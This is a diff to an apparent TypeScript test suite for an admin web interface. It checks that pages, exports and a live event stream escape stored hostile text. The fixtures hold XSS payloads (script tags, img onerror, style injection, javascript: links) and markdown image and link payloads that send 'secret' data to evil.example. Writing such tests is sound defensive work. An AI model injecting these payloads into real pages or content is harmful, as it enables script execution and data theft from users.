@@ -11,6 +11,7 @@ const MARKUP = `"><img src=x onerror=alert(1)><style>*{display:none}</style>`;
 const HOSTILE = `${SCRIPT} ${MARKUP} \u202e\u2066rtl\u0000\ud800 ![p](https://evil.example/p?d=secret) [a](javascript:alert(1)) https://evil.example/?d=2 ${"x".repeat(150_000)}`;
 const SESSION = "slack:T1:C1:171.5";
 const PATH = `/admin/threads/${encodeURIComponent(SESSION)}`;
+const OWN = "slack:T1:D1:171.6";
 
 let world: AdminWorld;
 let browser: Browser;
@@ -62,11 +63,38 @@ beforeAll(async () => {
     boss,
   );
   await createHolds(sql).set("hold1", { kind: "person", subject: "U7" }, HOSTILE, boss);
+  // Somebody's own, whose reason has not been given, and a tool that found more than the model received.
+  await storeThread(sql, {
+    session: OWN,
+    said: [HOSTILE, HOSTILE],
+    author: { id: "U1", name: `${SCRIPT}${MARKUP}` },
+    isDirect: true,
+  });
+  await createOverviewMaker(sql).make(sessionNamed(OWN));
+  await sql.query(
+    {
+      text: `insert into tool_results (run, round, call, name, ok, content) values ($1, 1, 't1', 'look', true, $2)`,
+    },
+    [run, HOSTILE.replaceAll("\u0000", "")],
+  );
   browser = await world.signedIn(boss);
 });
 afterAll(() => world[Symbol.asyncDispose]());
 
-test.each([
+function expectHarmless(text: string): void {
+  expect(text).toContain("&lt;script&gt;alert");
+  for (const raw of ["<script>alert", "<img src=x", "<style>", "\u0000", 'javascript:alert(1)"'])
+    expect(text).not.toContain(raw);
+  // No code on the page itself, and nothing from elsewhere.
+  expect(text.replaceAll(/"[^"]*"/g, `""`)).not.toMatch(/<[^>]+\s(?:style|on[a-z]+)=/);
+  const addresses = [...text.matchAll(/<[a-z]+\s[^<>]*?\b(?:href|src|action)="([^"]*)"/g)].map(
+    ([, address]) => address,
+  );
+  expect(addresses.length).toBeGreaterThan(5);
+  expect(addresses.filter((address) => !/^(?:\/admin|#)/.test(address ?? ""))).toEqual([]);
+}
+
+test.each<[string, string | (() => string), number?]>([
   ["the list", "/admin/"],
   ["a search", `/admin/?q=${encodeURIComponent(`rtl ${SCRIPT}`)}`],
   ["a search that finds nothing", `/admin/?q=${encodeURIComponent(`nothing${MARKUP}`)}`],
@@ -83,22 +111,36 @@ test.each([
   ["who is signed in", "/admin/browsers"],
   ["erasing and holds", "/admin/erasures"],
   ["an erasure", "/admin/erasures/erasure1"],
+  ["all of a result", () => `${PATH}/results/${run}/1/t1`],
+  [
+    "an export",
+    `/admin/export?model=${encodeURIComponent(`${SCRIPT}${MARKUP}`)}&x=${encodeURIComponent(MARKUP)}`,
+  ],
+  ["the reason for reading one", `/admin/threads/${encodeURIComponent(OWN)}?at=1-1&x=${MARKUP}`, 403],
   ["the step before one", `${PATH}/erase`],
-])("S13: on the page of %s hostile text is text", async (_, path) => {
+])("S13: on the page of %s hostile text is text", async (_, path, status = 200) => {
   const page = await browser.get(typeof path === "string" ? path : path(), { "user-agent": MARKUP });
-  expect(page.status).toBe(200);
-  expect(page.text).toContain("&lt;script&gt;alert");
-  for (const raw of ["<script>alert", "<img src=x", "<style>", "\u0000", 'javascript:alert(1)"'])
-    expect(page.text).not.toContain(raw);
-  // No code on the page itself, and nothing from elsewhere.
-  expect(page.text.replaceAll(/"[^"]*"/g, `""`)).not.toMatch(/<[^>]+\s(?:style|on[a-z]+)=/);
-  const addresses = [...page.text.matchAll(/<[a-z]+\s[^<>]*?\b(?:href|src|action)="([^"]*)"/g)].map(
-    ([, address]) => address,
-  );
-  expect(addresses.length).toBeGreaterThan(5);
-  expect(addresses.filter((address) => !/^(?:\/admin|#)/.test(address ?? ""))).toEqual([]);
+  expect(page.status).toBe(status);
+  expectHarmless(page.text);
   // A line without end is cut where it is not asked for as a whole.
   if (path === PATH) expect(page.text.length).toBeLessThan(60_000);
+});
+
+test("S13: what a page is kept up to date with is text too", async () => {
+  const over = new AbortController();
+  const response = await fetch(`${world.url}${PATH}/live`, {
+    headers: { cookie: browser.cookie },
+    signal: over.signal,
+  });
+  const decoder = new TextDecoder();
+  let text = "";
+  for await (const part of response.body ?? []) {
+    text += decoder.decode(part, { stream: true });
+    // The first content as a whole.
+    if (/event: content\n[^]*\n\n/.test(text)) break;
+  }
+  over.abort();
+  expectHarmless(text);
 });
 
 test("the bytes of a request are saved and never shown as a page", async () => {
